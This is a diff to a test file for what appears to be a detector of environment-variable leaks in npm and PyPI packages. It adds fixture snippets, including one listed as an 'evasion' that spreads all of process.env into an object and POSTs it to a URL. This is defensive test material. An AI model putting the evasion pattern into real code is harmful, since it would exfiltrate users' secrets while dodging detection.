@@ -50,8 +50,20 @@ Error reporters that attach the environment filter it and do so on request only.
         ecosystem: "npm",
         files: { "a.js": "const env = { ...process.env, A: 1 };\nspawn('x', { env });\nfetch(process.env.URL);\n" },
       },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js": "const { MODE, NAME: name } = process.env;\nfetch(u, { method: 'POST', body: MODE + name });\n",
+        },
+      },
     ],
     evasions: [
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js": "const { A, ...rest } = process.env;\nfetch(u, { method: 'POST', body: JSON.stringify(rest) });\n",
+        },
+      },
       {
         ecosystem: "pypi",
         files: {
